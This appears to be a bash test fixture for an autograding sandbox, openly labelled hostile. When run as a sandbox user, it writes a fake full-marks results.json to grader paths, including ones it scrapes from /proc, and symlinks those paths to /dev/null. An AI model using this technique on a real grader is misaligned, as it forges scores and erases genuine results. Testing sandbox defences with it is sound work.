#!/usr/bin/env bash
# Hostile: writes a full-marks results.json wherever the grader may read one:
# Gradescope's path, next to the scratch directory, and the --json path read
# from the grader's command line in /proc.  At build time ("build") and when
# run.  Stopped by: the sandbox user cannot write there (0700 root), and the
# grader writes results.json itself, after the student's processes are dead.
# A test fixture, not a weapon: it attacks only as a grading sandbox user
# (kvgrade*).  Run by anyone else (a developer, root: the sandbox is off),
# it fails at once and harms nothing.
case $(id -un 2>/dev/null) in
  kvgrade*) ;;
  *) echo "HOSTILE: not a sandbox user (uid $(id -u)): the sandbox is off, no attack" >&2; exit 1 ;;
esac
fake='{"score": 1000, "output": "HOSTILE-RESULTS-WRITER was here", "tests": []}'
targets=(/autograder/results/results.json ../results.json ../../results.json
  ../../../results.json "$HOME/results.json")
for cmd in /proc/[0-9]*/cmdline; do
  args=$(tr "\\0" "\\n" 2>/dev/null <"$cmd") || continue
  json=$(grep -A1 -x -- --json <<<"$args" | tail -1)
  [[ -n $json && $json != --json ]] && targets+=("$json")
done
for t in "${targets[@]}"; do
  if (echo "$fake" >"$t") 2>/dev/null; then
    echo "HOSTILE: wrote $t" >&2
  else
    echo "HOSTILE: could not write $t" >&2
  fi
  # Replace it: a symlink where the grader will write.
  ln -sf /dev/null "$t" 2>/dev/null && echo "HOSTILE: replaced $t by a symlink" >&2
done
[[ ${1:-} == build ]] && exit 0
echo "listening on 127.0.0.1:1"
sleep 30
